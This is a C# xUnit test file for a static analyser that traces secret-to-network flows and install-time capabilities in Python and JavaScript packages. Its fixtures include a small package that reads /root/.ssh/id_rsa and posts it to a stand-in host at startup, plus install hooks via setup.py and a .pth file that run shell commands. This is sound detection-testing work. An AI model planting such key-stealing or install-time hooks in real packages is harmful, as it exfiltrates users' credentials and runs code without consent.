using System.Runtime.CompilerServices;
using System.Text;
using Mtf.Artifacts;
using Mtf.Flow;
using Mtf.Flow.Facts;
using Xunit;

namespace Mtf.Tests.Flow;

public sealed class PythonFlowTests
{
    public static TheoryData<string> Names => [.. Twins.Select(twin => twin.Name)];

    private static IReadOnlyList<FlowTwin> Twins { get; } = FlowTwin.Parse(File.ReadAllText(DataFile()));

    [Theory]
    [MemberData(nameof(Names))]
    public void Twins_differ_in_the_flow_that_is_found(string name)
    {
        var twin = Twins.Single(twin => twin.Name == name);
        var analysis = Analyze(("server.py", twin.Code));
        Assert.Empty(analysis.Unanalysed);
        Assert.Empty(twin.Compare([.. analysis.Flows.Select(flow => ($"{flow.Source}->{flow.Sink}", flow.Guarded))]));
    }

    [Fact]
    public void A_flow_across_the_modules_of_a_package_shows_its_way()
    {
        var analysis = Analyze(
            ("pyproject.toml", "[project]\nname = \"a\"\n[project.scripts]\na = \"app.main:main\"\n"),
            ("src/app/__init__.py", ""),
            ("src/app/main.py", "from .io import read\nfrom . import net\n\ndef main():\n    net.send(read.key())\n"),
            ("src/app/net.py", "import requests\ndef send(body):\n    requests.post(\"https://collect.example.test\", data=body)\n"),
            ("src/app/io/__init__.py", "from .read import *\n"),
            ("src/app/io/read.py", "def key():\n    return open(\"/root/.ssh/id_rsa\").read()\n"));
        var flow = Assert.Single(analysis.Flows, flow => flow is { Source: "file.secret", Sink: "network" });
        Assert.Equal("/root/.ssh/id_rsa", flow.SourceDetail);
        Assert.Equal(new Mtf.Findings.Location("src/app/io/read.py", 2), flow.Steps[0].Location);
        Assert.Equal(new Mtf.Findings.Location("src/app/net.py", 3), flow.Steps[^1].Location);
        Assert.Equal(Phase.Startup, flow.Context.Phase);
    }

    [Fact]
    public void Capabilities_name_what_is_reached_when_and_by_whom()
    {
        var analysis = Analyze(
            ("setup.py", "import os\nfrom setuptools import setup\nos.system('make all')\nsetup(entry_points={'console_scripts': ['s = app:main']})\n"),
            ("startup.pth", "/some/path\nimport os; os.system('date')\n"),
            ("app.py", "import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n@mcp.tool()\ndef read(file: str):\n    return open('/srv/' + file).read()\ndef main():\n    print(os.getenv('TOKEN', 'none'))\ndef unused():\n    os.remove('/x')\n"),
            ("site-packages/dep/__init__.py", "import requests\nrequests.get('https://dep.example.test/')\n"));
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "proc.shell", Detail: "make all", Context.Phase: Phase.Install });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "proc.shell", Detail: "date", Context: { Phase: Phase.Install, Location.Line: 2 } });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "env.read", Detail: "TOKEN", Context.Phase: Phase.Startup });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "fs.read", Detail: "/srv/⟨arg:file⟩", Context: { Phase: Phase.Handler, Tools: ["read"], Location.Line: 6 } });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "fs.delete", Context.Phase: Phase.Unreached });
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "net.http", Detail: "https://dep.example.test/", Context.Owner: "dep" });
    }

    [Theory]
    [InlineData("os.path.join(\"/etc\", \"app\", \"a.conf\")", "/etc/app/a.conf")]
    [InlineData("Path(\"/etc\") / \"app\" / \"a.conf\"", "/etc/app/a.conf")]
    [InlineData("\"/%s/%s\" % (\"etc\", \"app\")", "/etc/app")]
    [InlineData("\"/{}/{name}\".format(\"etc\", name=\"app\")", "/etc/app")]
    [InlineData("f\"/etc/{'app'}\"", "/etc/app")]
    [InlineData("\"/\".join([\"\", \"etc\", \"app\"])", "/etc/app")]
    [InlineData("base64.b64decode(\"L2V0Yy9hcHA=\").decode()", "/etc/app")]
    [InlineData("bytes.fromhex(\"2f657463\").decode()", "/etc")]
    [InlineData("\"\".join(chr(c - 1) for c in [48, 102, 117, 100])", "/etc")]
    [InlineData("codecs.decode(\"/rgp/ncc\", \"rot13\")", "/etc/app")]
    [InlineData("os.environ[\"HOME\"] + \"/a\"", "⟨env:HOME⟩/a")]
    [InlineData("os.getenv(\"DIR\", \"/etc\")", "/etc | ⟨env:DIR⟩")]
    public void Texts_are_folded(string expression, string expected)
    {
        var analysis = Analyze(("a.py", $"import base64, codecs, os\nfrom pathlib import Path\nopen({expression})\n"));
        Assert.Contains(analysis.Capabilities, item => item.Kind == "fs.read" && item.Detail == expected);
    }

    [Fact]
    public void Both_languages_of_a_mixed_package_are_read()
    {
        var analysis = Analyze(
            ("package.json", "{\"main\":\"index.js\"}"),
            ("index.js", "const os = require('./os'); os.go();"),
            ("os.js", "exports.go = () => require('child_process').exec('one');"),
            ("app.py", "import os\nos.system('two')\n"),
            ("app.pyi", "import os\nos.system('three')\n"));
        Assert.Equal(["two", "one"], analysis.Capabilities.Where(item => item.Kind == "proc.shell").Select(item => item.Detail));
    }

    [Fact]
    public void A_part_that_does_not_parse_is_reported_and_the_rest_is_read()
    {
        var analysis = Analyze(("a.py", "import os\nos.system('date')\nif x ==:\n    pass\n"));
        Assert.Equal(("a.py", 3), (Assert.Single(analysis.Unanalysed).File, analysis.Unanalysed[0].Line));
        Assert.Contains(analysis.Capabilities, item => item is { Kind: "proc.shell", Detail: "date" });
    }

    [Fact]
    public void Looking_for_one_name_or_starting_a_child_is_no_sweep_of_the_environment()
    {
        var analysis = Analyze(("a.py", "import os, subprocess\nif 'HOME' in os.environ:\n    subprocess.run(['ls'], env=os.environ)\nprint(len(os.environ))\nsend(dict(os.environ))\n"));
        Assert.Equal([("env.inherit", 3, 1), ("env.all", 4, 2)], analysis.Capabilities.Where(item => item.Kind.StartsWith("env", StringComparison.Ordinal)).Select(item => (item.Kind, item.Context.Location.Line, item.Count)));
    }

    private static StaticAnalysis Analyze(params (string Path, string Text)[] files)
    {
        using var tree = new MemoryTree(files.Select(file => (file.Path, Encoding.UTF8.GetBytes(file.Text))));
        return StaticAnalyzer.Analyze(tree, []);
    }

    private static string DataFile([CallerFilePath] string path = "") => Path.Combine(Path.GetDirectoryName(path)!, "../data/flow/python-twins.txt");
}
